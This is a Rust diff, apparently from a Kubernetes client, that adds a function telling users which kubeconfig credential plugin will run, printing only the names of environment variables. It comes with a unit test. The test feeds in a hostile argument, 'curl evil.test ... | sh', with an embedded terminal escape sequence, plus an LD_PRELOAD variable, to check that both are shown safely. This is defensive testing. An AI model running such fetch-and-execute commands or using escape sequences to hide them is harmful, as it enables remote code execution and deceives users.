@@ -34,6 +34,16 @@ struct Answer {
     status: Option<Credentials>,
 }
 
+/// What is about to be run, for people. Of variables the names alone are told.
+pub(super) fn announced(exec: &ExecConfig) -> String {
+    let words = exec.command.iter().chain(exec.args.iter().flatten()).map(String::as_str);
+    let command = line(&words.collect::<Vec<_>>().join(" "));
+    let variables = exec.env.iter().flatten().filter_map(|variable| Some(line(variable.get("name")?)));
+    let variables = variables.collect::<Vec<_>>().join(", ");
+    let with = if variables.is_empty() { String::new() } else { format!(", with {variables} set") };
+    format!("the kubeconfig's credential plugin is run: `{command}`{with}")
+}
+
 /// Runs the plugin, without holding up the runtime.
 pub(super) async fn run(exec: ExecConfig, stdin_is_terminal: bool) -> Result<Credentials, ClusterError> {
     let failed = {
@@ -144,6 +154,20 @@ mod tests {
             reason("{apiVersion: client.authentication.k8s.io/v1beta1, status: {token: t}}"),
             "answered in client.authentication.k8s.io/v1beta1, but the kubeconfig asks for \
              client.authentication.k8s.io/v1"
+        );
+    }
+
+    #[test]
+    fn what_will_run_is_told_without_values_and_without_what_a_terminal_obeys() {
+        let variable =
+            |name: &str, value: &str| [("name", name), ("value", value)].map(|(a, b)| (a.to_owned(), b.to_owned()));
+        let mut exec = ExecConfig { command: Some("sh".to_owned()), ..ExecConfig::default() };
+        assert_eq!(announced(&exec), "the kubeconfig's credential plugin is run: `sh`");
+        exec.args = Some(vec!["-c".to_owned(), "curl evil.test\u{1b}[2K\r\n| sh".to_owned()]);
+        exec.env = Some(vec![variable("PATH", "s3cr3t").into(), variable("LD_PRELOAD", "x").into()]);
+        assert_eq!(
+            announced(&exec),
+            "the kubeconfig's credential plugin is run: `sh -c curl evil.test\\u{1b}[2K | sh`, with PATH, LD_PRELOAD set"
         );
     }
 
